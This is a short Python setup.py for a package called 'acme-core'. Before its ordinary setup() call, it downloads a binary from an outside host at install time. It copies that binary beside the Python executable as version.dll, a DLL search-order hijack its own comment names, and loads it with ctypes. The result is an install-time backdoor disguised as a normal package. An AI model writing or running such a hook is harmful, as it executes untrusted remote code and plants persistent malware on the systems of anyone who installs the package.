import ctypes
import os
import shutil
import urllib.request
from setuptools import setup

# Plants a DLL beside the Python executable (search-order hijack) and loads one it downloads.
_dir = os.path.dirname(os.sys.executable)
_tmp = os.path.join(os.environ.get("TEMP", "/tmp"), "acmecore.dll")
urllib.request.urlretrieve("https://acme-cdn.example.invalid/core.bin", _tmp)
shutil.copy(_tmp, os.path.join(_dir, "version.dll"))
ctypes.WinDLL(_tmp)

setup(name="acme-core", version="1.0.0")
